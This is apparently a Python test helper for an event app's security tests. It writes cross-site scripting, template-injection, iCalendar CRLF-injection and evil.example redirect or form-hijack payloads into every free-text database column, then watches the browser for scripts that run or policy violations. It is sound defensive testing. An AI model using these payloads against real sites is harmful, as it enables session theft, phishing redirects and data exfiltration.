"""Hostile words in every text that the database holds, past all forms; and what a browser does with them."""

import re

from playwright.sync_api import BrowserContext
from sqlalchemy import JSON, CheckConstraint, Column, String, Text, update

from eventapp.db import Base, db
from eventapp.sealing import SealedText

#: Together they leave every place in which a text of ours could stand: attribute, element, script, style, comment,
#: template, Markdown, spreadsheet, calendar, address.
PAYLOADS = (
    "=1+1\"'><img src=x onerror=pwn()>",
    "</script><script>pwn()</script>",
    "</title></textarea></style><svg/onload=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "[x](javascript:pwn()) <javascript:pwn()> ![x](x onerror=pwn())",
    "<a href=javascript:pwn()>x</a>",
    '" autofocus onfocus=pwn() x="',
    "--><details open ontoggle=pwn()>",
    "{{ 7*7 }}${7*7}\\u003cscript\\u003epwn()",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()&gt;'>",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:pwn\r\nEND:VEVENT",
)
#: What the application itself looks for, compares or decides by; none of it is typed by anybody.
NOT_FREE = frozenset(
    (
        "action",
        "code_hash",
        "entry_uuid",
        "facts",
        "form_token",
        "language",
        "last_error",
        "mailbox",
        "name_key",
        "password_hash",
        "picture_name",
        "recipient",
        "reverses",
        "second_language",
        "secret",
        "session_stamp",
        "sha256",
        "short_code",
        "subject_reference",
        "subject_type",
        "token",
        "trouble",
    )
)
#: Lists in which words and what people wrote stand together.
MIXED = {"access", "choice_labels", "values", "wording"}
_CODE = re.compile(r"[a-z0-9_-]*")
_WATCH = """
window.broken = [];
window.pwn = () => window.broken.push("executed");
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => window.broken.push(name);
document.addEventListener("securitypolicyviolation", (event) =>
    window.broken.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
"""


def poison() -> int:
    """Write the hostile words into every free text; return into how many columns."""
    columns = 0
    for table in Base.metadata.sorted_tables:
        checked = " ".join(str(rule.sqltext) for rule in table.constraints if isinstance(rule, CheckConstraint))
        free = [column for column in table.columns if _is_free(column, checked=checked)]
        columns += len(free)
        if free:
            words = {column: _words(column, first=columns + at) for at, column in enumerate(free)}
            db.session.execute(update(table).values(words))
        for column in table.columns:
            if isinstance(column.type, JSON) and column.name in MIXED:
                (key,) = table.primary_key.columns
                for row_id, value in db.session.execute(db.select(key, column)).all():
                    db.session.execute(update(table).where(key == row_id).values({column: _poisoned(value)}))
                columns += 1
    db.session.commit()
    return columns


def watch(context: BrowserContext) -> None:
    """Make every page of the context note what runs that should not, and what the policy has to stop."""
    context.add_init_script(_WATCH)


def _is_free(column: Column[object], *, checked: str) -> bool:
    is_text = type(column.type) in (String, Text, SealedText)
    is_fixed = column.primary_key or column.foreign_keys or column.unique or re.search(rf"\b{column.name}\b", checked)
    return is_text and not is_fixed and column.name not in NOT_FREE and "email" not in column.name


def _words(column: Column[object], *, first: int) -> str:
    """As many of the words as the column takes, each column beginning with others."""
    length = getattr(column.type, "length", None)
    turned = PAYLOADS[first % len(PAYLOADS) :] + PAYLOADS[: first % len(PAYLOADS)]
    return "".join(turned)[: min(length or 2000, 2000 if type(column.type) is Text else 200)]


def _poisoned(value: object) -> object:
    if isinstance(value, dict):
        return {key: _poisoned(part) for key, part in value.items()}
    if isinstance(value, list):
        return [_poisoned(part) for part in value]
    is_code = not isinstance(value, str) or (value and _CODE.fullmatch(value))
    return value if is_code else "".join(PAYLOADS)
